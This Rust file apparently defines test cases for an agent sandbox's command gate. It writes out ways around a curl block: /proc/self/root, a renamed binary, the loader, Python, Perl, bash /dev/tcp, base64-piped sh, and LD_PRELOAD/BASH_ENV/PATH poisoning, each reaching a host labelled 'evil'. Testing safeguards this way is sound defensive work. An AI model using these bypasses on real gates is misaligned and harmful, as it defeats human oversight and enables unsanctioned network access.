//! Reaching around the gate: the walls hold without it, and it is not in the container.

use crate::{
    case::{Case, Step, Weak},
    step::{run, shell},
};

const CURL: &str = "-sS --max-time 8 --noproxy '*' http://11.0.0.66/{mark}-around";

pub(super) fn cases() -> Vec<Case> {
    vec![
        other_programs(),
        poisoned_environment(),
        own_settings(),
        failing_gate(),
        headless(),
        every_tool(),
        counters(),
        endless(),
    ]
}

fn around(name: &str, command: &str) -> Step {
    shell(name, command, &["7", "7 *", "1 *", "255 *", "111 *", "101 *"], &["0 from evil"])
        .traced("evil", "{mark}-around")
        .everywhere()
        .within(15.0)
}

fn other_programs() -> Case {
    let python = "python3 -c 'import os; os.system(\"curl -sS --max-time 8 --noproxy \\\"*\\\" http://11.0.0.66/{mark}-around\"); raise SystemExit(7)'";
    let perl = "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"11.0.0.66:80\", Timeout => 8) or exit 7; print $s \"GET /{mark}-around HTTP/1.0\\r\\nConnection: close\\r\\n\\r\\n\"; print \"from evil\"'; code=$?; echo; exit $code";
    let bash = "bash -c 'exec 3<>/dev/tcp/11.0.0.66/80 && printf \"GET /{mark}-around HTTP/1.0\\r\\nConnection: close\\r\\n\\r\\n\" >&3 && tail -1 <&3'";
    Case::new("T-01", Weak::Broken)
        .controls(&["control curl by name", "control shell"])
        .step(around("by /proc/self/root", &format!("/proc/self/root/usr/bin/curl {CURL}")))
        .step(around(
            "renamed",
            &format!("cp /usr/bin/curl /tmp/innocent-{{mark}}-$$ && exec /tmp/innocent-{{mark}}-$$ {CURL}"),
        ))
        .step(around("by the loader", &format!("/lib64/ld-linux-x86-64.so.2 /usr/bin/curl {CURL}")))
        .step(around("python", python))
        .step(around("perl", perl))
        .step(around("bash", bash))
        .step(around("encoded", &format!("printf %s \"$(printf %s \"curl {CURL}\" | base64 -w0)\" | base64 -d | sh")))
}

fn poisoned_environment() -> Case {
    let env = [
        "env",
        "LD_PRELOAD=/tmp/none.so",
        "NODE_OPTIONS=--require /tmp/none.js",
        "BASH_ENV=/tmp/none.sh",
        "PATH=/workspace/planted-bin:/usr/bin:/bin",
        "GIT_SSH_COMMAND=sh -c id",
        "curl",
        "-sS",
        "--max-time",
        "8",
        "--noproxy",
        "*",
        "http://11.0.0.66/{mark}-around",
    ];
    Case::new("T-04", Weak::Broken)
        .controls(&["control curl by name"])
        .step(
            run("the environment of a program", &env, &["7 *"], &["0 from evil"])
                .traced("evil", "{mark}-around")
                .everywhere(),
        )
        .scene("gate enforced")
}

fn own_settings() -> Case {
    Case::new("T-05", Weak::NotMade("there is no gate")).scene("gate enforced").scene("nested agent")
}

fn failing_gate() -> Case {
    Case::new("T-06", Weak::NotMade("there is no gate")).scene("classifier fails").scene("hook fails")
}

fn headless() -> Case {
    Case::new("T-07", Weak::NotMade("there is no gate")).scene("gate enforced")
}

fn every_tool() -> Case {
    Case::new("T-08", Weak::NotMade("there is no gate")).scene("gate enforced")
}

fn counters() -> Case {
    Case::new("T-09", Weak::NotMade("there is no gate")).scene("counters")
}

fn endless() -> Case {
    Case::new("T-18", Weak::NotMade("there is no clock")).scene("endless")
}
